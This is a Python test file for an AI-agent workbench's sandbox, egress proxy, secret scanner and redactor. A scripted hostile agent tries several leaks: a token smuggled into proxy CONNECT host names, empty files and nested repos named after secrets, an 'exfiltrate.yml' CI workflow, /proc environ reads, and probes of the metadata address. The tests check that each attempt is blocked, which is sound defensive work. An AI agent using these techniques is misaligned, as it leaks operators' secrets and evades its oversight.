"""A hostile agent against issue 20's workbench (setup, its secrets, its leftovers), under
real bubblewrap and the network allowlist: what it can reach, and what stays out of sight."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import select
import shlex
from pathlib import Path
from urllib.parse import urlparse

import httpx
import pytest

from hookagent.models import TaskStatus
from hookagent.redact import Redactor
from hookagent.settings import Settings
from hookagent.store import Store
from hookagent.worker.secretscan import scan_diff
from hookagent.worker.workspace import Workspaces
from tests.conftest import RunWorker
from tests.helpers import REPO, fake_agent, wait_status
from tests.worker.test_sandbox import needs_bwrap
from tests.worker.test_setup import ENDED, PLANNED, git, messages, policy_file, submit_alert

TASK = "task-1764040000123-0a1b2c3d4e5f"


# Lower case and hostname-safe: the agent puts it in a host name, which a proxy may fold.
SECRET = "npmtok-7f3a9c2e5b1d4860aa51"
# The agent asks the egress proxy for a tunnel to a host named after what it read.
CONNECT = (
    "import socket, sys; s = socket.create_connection(('127.0.0.1', 3128)); "
    "s.sendall(f'CONNECT {sys.argv[1]}.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode()); "
    "print('proxy said', s.recv(200).split(b'\\r\\n')[0].decode())"
)


@needs_bwrap
async def test_a_setup_env_value_left_in_the_workspace_stays_out_of_blocked_lines(
    client: httpx.AsyncClient, store: Store, start_worker: RunWorker, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """A hole (closed by run.py's fix): setup_env values were unknown to the agent's
    ``blocked connection`` line.

    An agent that has a setup_env value (setup left it in ``.npmrc``, before residue.py
    stopped that; here the operator's agent_env passes it) names a host after it. The
    agent's own output is redacted with the run's redactor, which knows the
    value; but the egress proxy's report of a refused target went through the log
    writer's redactor, which knows only hookagent's own secrets. An agent naming a host
    after the token put it plain in the log (and ``/search``).
    """
    monkeypatch.setenv("DEMO_REGISTRY_VALUE", SECRET)
    body = 'setup = "true"\nsetup_env = ["DEMO_REGISTRY_VALUE"]\n'
    agent = "; ".join(
        [
            # The value reaches the agent (a file setup left, once; an operator's agent_env).
            'tok="$DEMO_REGISTRY_VALUE"',
            'echo "agent read $(printf %s "$tok" | sha256sum | cut -c1-16)"',
            f'python3 -c "{CONNECT}" "$tok"',
        ]
    )
    start_worker(
        agent_command=fake_agent("shell", agent),
        agent_env="DEMO_REGISTRY_VALUE",
        sandbox="bwrap",
        sandbox_network="allowlist",
        policy_file=policy_file(tmp_path, body),
    )
    tid = await submit_alert(client)
    assert await wait_status(store, tid, PLANNED, timeout=60) is TaskStatus.PENDING_APPROVAL
    lines = await messages(store, tid)
    digest = hashlib.sha256(SECRET.encode()).hexdigest()[:16]
    # The secret is in the agent's view (agent_env here).
    assert f"[stdout] shell| agent read {digest}" in lines, lines
    assert "[stdout] shell| proxy said HTTP/1.1 403 Forbidden" in lines, lines
    blocked = [m for m in lines if m.startswith("[system] blocked connection to ")]
    assert blocked, lines
    assert not [m for m in lines if SECRET in m], blocked


async def exited(pid: int, *, timeout: float) -> None:
    """Once process ``pid`` has exited (its pidfd turns readable), or ``timeout`` passed."""
    try:
        fd = os.pidfd_open(pid)
    except ProcessLookupError:
        return
    try:
        await asyncio.to_thread(select.select, [fd], [], [], timeout)
    finally:
        os.close(fd)


def _sleepers(marker: str) -> list[int]:
    """Host processes whose command line holds ``marker``."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            line = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in line:
            found.append(int(pid))
    return found


@needs_bwrap
async def test_a_daemon_setup_leaves_behind_dies_with_it_and_the_agent_never_sees_it(
    client: httpx.AsyncClient, store: Store, start_worker: RunWorker, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """A guarantee: setup_env does not outlive setup in a process the agent could read.

    Setup starts a detached daemon (``setsid nohup``, as a build server would) holding the
    secret in its environment. The bwrap's PID namespace ends with setup: the daemon is
    gone from the host, and the agent, run after it, finds no process and no environ
    holding the value.
    """
    monkeypatch.setenv("DEMO_REGISTRY_VALUE", SECRET)
    marker = "3017.25"  # sleep's argument: how the host finds the daemon
    setup = f"setsid nohup sleep {marker} >/dev/null 2>&1 < /dev/null & echo started"
    body = f'setup = {json.dumps(setup)}\nsetup_env = ["DEMO_REGISTRY_VALUE"]\n'
    agent = "; ".join(
        [
            "grep -ls DEMO_REGISTRY_VALUE /proc/[0-9]*/environ && echo 'agent: found setup env'",
            # By name: a grep for the marker would find its own command line.
            "grep -lxs sleep /proc/[0-9]*/comm && echo 'agent: saw the daemon'",
            "echo 'agent: looked'",
        ]
    )
    start_worker(
        agent_command=fake_agent("shell", agent),
        sandbox="bwrap",
        sandbox_network="allowlist",
        policy_file=policy_file(tmp_path, body),
    )
    tid = await submit_alert(client)
    assert await wait_status(store, tid, PLANNED, timeout=60) is TaskStatus.PENDING_APPROVAL
    lines = await messages(store, tid)
    assert "[setup] started" in lines, lines
    assert "[stdout] shell| agent: looked" in lines, lines
    said = [m for m in lines if m.startswith("[stdout] shell| ")]
    assert not [m for m in said if "agent: found" in m or "agent: saw" in m], said
    # The namespace's end kills it at once: wait for each one's exit on its pidfd.
    for pid in _sleepers(marker):
        await exited(pid, timeout=5)
    assert _sleepers(marker) == []


@needs_bwrap
async def test_an_empty_file_named_after_a_secret_is_refused_before_push(
    client: httpx.AsyncClient, store: Store, start_worker: RunWorker, tmp_path: Path,
    remotes: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """A hole (closed in secretscan.py): an empty new file's name was never scanned.

    The scan read added names from ``+++`` headers, and ``git diff`` writes none for an
    empty file (only ``diff --git`` and ``new file mode``). The executing agent has a
    setup_env value (agent_env here) and creates an empty file named after it:
    the name was pushed to the task's branch, for anyone who can see the pull request.
    """
    monkeypatch.setenv("DEMO_REGISTRY_VALUE", SECRET)
    body = (
        'auto_approve = [{ source = "sentry" }]\n'
        'setup = "true"\nsetup_env = ["DEMO_REGISTRY_VALUE"]\n'
    )
    agent = "; ".join(
        [
            # The value reaches the agent (a file setup left, once; an operator's agent_env).
            'tok="$DEMO_REGISTRY_VALUE"',
            # Planning's workspace is read-only: only the execution's touch lands.
            '(: > "$tok" && echo "agent: planted an empty file") 2>/dev/null',
            "(echo 'def total(xs): return 0' > app.py) 2>/dev/null",
            "true",
        ]
    )
    start_worker(
        agent_command=fake_agent("shell", agent),
        agent_env="DEMO_REGISTRY_VALUE",
        sandbox="bwrap",
        sandbox_network="allowlist",
        policy_file=policy_file(tmp_path, body),
    )
    tid = await submit_alert(client)
    assert await wait_status(store, tid, ENDED, timeout=90) is TaskStatus.FAILED
    lines = await messages(store, tid)
    assert "[stdout] shell| agent: planted an empty file" in lines, lines
    refused = [m for m in lines if m.startswith("[system] refused to push: ")]
    assert refused, lines
    assert not [m for m in lines if SECRET in m], refused
    branches = git(remotes / f"{REPO}.git", "branch", "--list", f"hookagent/{tid}")
    assert branches.strip() == "", "nothing pushed"


async def test_the_scan_reads_empty_new_files_names_plain_and_quoted(
    tmp_path: Path, remotes: Path
) -> None:
    """Empty new files (no ``+++`` header), under a plain and a C-quoted name, are found."""
    spaces = Workspaces(tmp_path / "ws", url_template=f"file://{remotes}/{{repo}}.git", timeout=30)
    path = await spaces.clone(TASK, REPO)
    token = "ghp_" + "Qm7" * 12
    names = [token, f"dir é/{token} x", f"tab\there {SECRET}"]
    for name in names:
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).touch()
    (path / "ok.txt").touch()  # an empty file with a clean name: no finding
    checkout = spaces.checkout(path)
    await checkout.stage()
    diff = await checkout.diff("main")
    assert "+++ " not in diff  # the shape that was missed
    found = scan_diff(diff, Redactor([SECRET]))
    assert sorted((f.line, f.kind) for f in found) == sorted(
        [(0, "github_token"), (0, "github_token"), (0, "secret")]
    ), found
    assert not [f for f in found if token in f.path or SECRET in f.path]
    # One finding per name: a non-empty file is not scanned twice (header and ``+++``).
    (path / "full.txt").write_text(token + "\n")
    (path / token).write_text("x\n")
    await checkout.stage()
    again = scan_diff(await checkout.diff("main"), Redactor([SECRET]))
    assert len(again) == 4, again


# Asks the run's egress proxy for a tunnel to each ``host:port`` argument; prints its answer.
TUNNELS = (
    "import socket, sys\n"
    "for target in sys.argv[1:]:\n"
    "    s = socket.create_connection(('127.0.0.1', 3128))\n"
    "    s.sendall(f'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n'.encode())\n"
    "    data = s.recv(4096)\n"
    "    while b' 200 ' in data.split(b'\\r\\n')[0] and not data.endswith(b'answered\\n'):\n"
    "        data += s.recv(4096) or b'answered\\n'\n"
    "    head, _, rest = data.decode(errors='replace').partition('\\r\\n\\r\\n')\n"
    "    print(target, '->', head.split('\\r\\n')[0], rest.strip())\n"
)


@needs_bwrap
async def test_setup_network_allow_opens_hosts_for_setup_alone_and_never_ours(
    client: httpx.AsyncClient, store: Store, start_worker: RunWorker, tmp_path: Path,
    settings: Settings,
) -> None:  # fmt: skip
    """A guarantee, untested till now: ``setup_network_allow`` widens setup's allowlist only.

    Setup reaches the registry its policy lists; the agent after it, same task, does not.
    Listed in ``setup_network_allow`` too, Valkey, hookagent's API and the metadata address
    stay refused for setup, and each refusal is logged.
    """

    async def registry(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"registry-answered\n")
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(registry, "127.0.0.1", 0)
    try:
        port = server.sockets[0].getsockname()[1]
        listed = f"127.0.0.1:{port}"
        ours = [f"{settings.host}:{settings.port}", "169.254.169.254:80"]
        redis = urlparse(str(settings.redis_url))
        if redis.hostname and redis.port:  # the embedded Valkey is on a unix socket
            ours.append(f"{redis.hostname}:{redis.port}")
        targets = " ".join([listed, *ours])
        script = f"python3 -c {shlex.quote(TUNNELS)} {targets}"
        allow = json.dumps([listed, *ours])
        body = f"setup = {json.dumps(script)}\nsetup_network_allow = {allow}\n"
        start_worker(
            agent_command=fake_agent("shell", script),
            sandbox="bwrap",
            sandbox_network="allowlist",
            policy_file=policy_file(tmp_path, body),
        )
        tid = await submit_alert(client)
        assert await wait_status(store, tid, PLANNED, timeout=60) is TaskStatus.PENDING_APPROVAL
        lines = await messages(store, tid)
    finally:
        server.close()
        await server.wait_closed()
    said: dict[str, list[str]] = {"[setup] ": [], "[stdout] shell| ": []}
    for line in lines:
        for prefix, found in said.items():
            if line.startswith(prefix):
                found.append(line.removeprefix(prefix))
    setup, agent = said["[setup] "], said["[stdout] shell| "]
    assert [m for m in setup if m.startswith(f"{listed} -> HTTP/1.1 200")], setup
    assert [m for m in setup if m.endswith("registry-answered")], setup
    assert [m for m in agent if m.startswith(f"{listed} -> HTTP/1.1 403")], agent
    for target in ours:
        assert [m for m in setup if m.startswith(f"{target} -> HTTP/1.1 403")], (target, setup)
        assert f"[system] setup: blocked connection to {target}" in lines, (target, lines)
    assert f"[system] blocked connection to {listed}" in lines


async def test_a_ci_workflow_the_agent_writes_is_not_pushed_by_default(
    client: httpx.AsyncClient, store: Store, start_worker: RunWorker, tmp_path: Path,
    remotes: Path,
) -> None:  # fmt: skip
    """A hole (closed in policy.py): the agent's code ran in the forge's CI.

    hookagent pushes the agent's change to a branch of the repository itself, and a forge
    runs that branch's own workflow files on push (GitHub Actions ``on: push``, GitLab's
    ``.gitlab-ci.yml``) with the repository's CI secrets: a stranger's prompt that got
    the agent to write one read every CI secret, outside all of hookagent's walls. A change
    to a CI definition now fails before push unless the policy says ``allow_ci_changes``.
    """
    workflow = ".github/workflows/exfiltrate.yml"
    script = f"mkdir -p .github/workflows && echo 'on: push' > {workflow}"
    body = 'auto_approve = [{ source = "sentry" }]\n'
    start_worker(
        agent_command=fake_agent("shell", f"({script}) 2>/dev/null; true"),
        policy_file=policy_file(tmp_path, body),
    )
    tid = await submit_alert(client)
    assert await wait_status(store, tid, ENDED, timeout=60) is TaskStatus.FAILED
    task = await store.tasks.get(tid)
    assert task.error == (
        f"changes outside the policy: {workflow} (paths_denied of {REPO}; "
        "CI definitions need allow_ci_changes = true)"
    )
    branches = git(remotes / f"{REPO}.git", "branch", "--list", f"hookagent/{tid}")
    assert not branches.strip(), "nothing of the change reached the remote"


async def test_allow_ci_changes_lets_a_ci_definition_through(
    client: httpx.AsyncClient, store: Store, start_worker: RunWorker, tmp_path: Path,
    remotes: Path,
) -> None:  # fmt: skip
    """An operator who wants the agent to fix CI files says so, per repository."""
    workflow = ".github/workflows/ci.yml"
    script = f"mkdir -p .github/workflows && echo 'on: push' > {workflow}"
    body = 'auto_approve = [{ source = "sentry" }]\nallow_ci_changes = true\n'
    start_worker(
        agent_command=fake_agent("shell", f"({script}) 2>/dev/null; true"),
        policy_file=policy_file(tmp_path, body),
    )
    tid = await submit_alert(client)
    assert await wait_status(store, tid, ENDED, timeout=60) is TaskStatus.COMPLETED
    pushed = git(remotes / f"{REPO}.git", "ls-tree", "-r", "--name-only", f"hookagent/{tid}")
    assert workflow in pushed.split()


MCP_VALUE = "glossary-" + "Wq4TzY81pLm0"


async def test_an_mcp_value_in_the_change_is_refused_when_the_policy_has_setup_env(
    client: httpx.AsyncClient, store: Store, start_worker: RunWorker, tmp_path: Path,
    remotes: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """A hole (closed in redact.py): with ``setup_env`` set, MCP values left the scan.

    An MCP server's ``env`` values are learnt by the worker's redactor when a run reads
    them; the run's redactor (setup_env's values added, ``Redactor.including``) was
    rebuilt from the configured secrets alone, without what was learnt. The secret scan
    before push uses the run's: an agent that copied the MCP token from its configuration
    home into a file pushed it. (The agent gets the value through HOOKAGENT_AGENT_ENV
    here: the ``command`` agent has no MCP configuration to read it from.)
    """
    monkeypatch.setenv("DEMO_REGISTRY_VALUE", SECRET)
    monkeypatch.setenv("DEMO_GLOSSARY_VALUE", MCP_VALUE)
    body = (
        'auto_approve = [{ source = "sentry" }]\n'
        'setup = "true"\nsetup_env = ["DEMO_REGISTRY_VALUE"]\n'
        f'[repo."{REPO}".mcp_servers.glossary]\n'
        'command = "python3"\nenv = ["DEMO_GLOSSARY_VALUE"]\n'
    )
    agent = "(echo \"TOKEN = '$DEMO_GLOSSARY_VALUE'\" >> app.py) 2>/dev/null; true"
    start_worker(
        agent_command=fake_agent("shell", agent),
        agent_env="DEMO_GLOSSARY_VALUE",
        policy_file=policy_file(tmp_path, body),
    )
    tid = await submit_alert(client)
    assert await wait_status(store, tid, ENDED, timeout=60) is TaskStatus.FAILED
    lines = await messages(store, tid)
    assert [m for m in lines if m.startswith("[system] refused to push: app.py:")], lines
    branches = git(remotes / f"{REPO}.git", "branch", "--list", f"hookagent/{tid}")
    assert branches.strip() == "", "nothing pushed"


def test_a_run_redactor_keeps_what_the_worker_learnt() -> None:
    """``including`` (a run's setup_env values) keeps values ``learn`` added before."""
    base = Redactor(["configured-" + "Hh61kQ0zzA"])
    base.learn([MCP_VALUE])
    run = base.including([SECRET])
    shown = run.redact(f"{MCP_VALUE} {SECRET} configured-Hh61kQ0zzA")
    assert shown == "[REDACTED:secret] [REDACTED:secret] [REDACTED:secret]", shown


@needs_bwrap
async def test_an_installation_around_the_cache_root_shows_no_other_repository_cache(
    client: httpx.AsyncClient, store: Store, start_worker: RunWorker, tmp_path: Path
) -> None:
    """A hole (closed in sandbox.py): a mount around ``HOOKAGENT_CACHE_DIR`` was allowed.

    Now the run fails with the reason, as for a mount around the workspace or data dir.

    With the caches outside the data dir (``/opt/hookagent/cache``) and the agent's
    program beside them (``/opt/hookagent/bin/agent``), its installation (``/opt/hookagent``)
    was bound read-only with every repository's cache in it: the agent read another
    repository's. Only mounts around the workspace or the data dir were refused.
    """
    opt = tmp_path / "opt"
    other = opt / "cache" / "acme+other"
    other.mkdir(parents=True)
    (other / "token").write_text("another repository's cache\n")
    program = opt / "bin" / "agent"
    program.parent.mkdir()
    program.write_text(f"#!/bin/sh\ncat {other}/token 2>&1 && echo 'agent: read it'\nexit 0\n")
    program.chmod(0o755)
    start_worker(
        agent_command=str(program),
        sandbox="bwrap",
        sandbox_network="allowlist",
        cache_dir=opt / "cache",
        policy_file=policy_file(tmp_path, 'setup = ""\n'),
    )
    tid = await submit_alert(client)
    await wait_status(store, tid, PLANNED, timeout=60)
    lines = await messages(store, tid)
    assert not [m for m in lines if "agent: read it" in m or "another repository" in m], lines
    task = await store.tasks.get(tid)
    assert task.status is TaskStatus.FAILED, lines
    assert "overlaps hookagent's caches" in (task.error or ""), task.error


@needs_bwrap
async def test_a_nested_repository_named_after_a_setup_env_value_is_logged_redacted(
    client: httpx.AsyncClient, store: Store, start_worker: RunWorker, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """A hole (closed in redact.py): names hookagent logs were redacted without setup_env.

    The executing agent makes a nested git repository named after a setup_env value it has
    (agent_env here); hookagent leaves it out of the commit and says so, ``[system] left out
    nested git repositories: <name>``, through the log writer, whose redactor did not know
    the run's setup_env values. Any line hookagent writes about the agent's files (nested
    repositories, a held change's diff stat) had the same gap.
    """
    monkeypatch.setenv("DEMO_REGISTRY_VALUE", SECRET)
    body = (
        'auto_approve = [{ source = "sentry" }]\n'
        'setup = "true"\nsetup_env = ["DEMO_REGISTRY_VALUE"]\n'
    )
    agent = "; ".join(
        [
            # The value reaches the agent (a file setup left, once; an operator's agent_env).
            'tok="$DEMO_REGISTRY_VALUE"',
            '(git init -q "$tok" && echo x > "$tok/f" && echo "agent: nested") 2>/dev/null',
            "(echo 'def total(xs): return 0' > app.py) 2>/dev/null",
            "true",
        ]
    )
    start_worker(
        agent_command=fake_agent("shell", agent),
        agent_env="DEMO_REGISTRY_VALUE",
        sandbox="bwrap",
        sandbox_network="allowlist",
        policy_file=policy_file(tmp_path, body),
    )
    tid = await submit_alert(client)
    await wait_status(store, tid, ENDED, timeout=90)
    lines = await messages(store, tid)
    assert "[stdout] shell| agent: nested" in lines, lines
    nested = [m for m in lines if m.startswith("[system] left out nested git repositories: ")]
    assert nested, lines
    assert not [m for m in lines if SECRET in m], nested
    task = await store.tasks.get(tid)
    assert SECRET not in json.dumps(task.model_dump(mode="json"))
